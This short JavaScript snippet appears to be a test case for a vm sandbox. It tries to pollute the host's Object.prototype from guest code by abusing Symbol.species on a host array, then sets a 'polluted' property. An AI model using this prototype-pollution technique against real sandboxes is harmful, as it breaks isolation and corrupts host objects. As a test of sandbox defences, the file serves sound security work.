// tries: an array of the host made with a species of the guest
// class: prototype of the host
// kind: pollute
// bare: vm
const { list } = await give(); try { list.constructor = { [Symbol.species]: function () { return Object.getPrototypeOf(Object.getPrototypeOf(list)) } }; list.map(() => 'yes'); list.concat(['polluted']) } catch {} Object.getPrototypeOf(Object.getPrototypeOf(list)).polluted = 'yes'
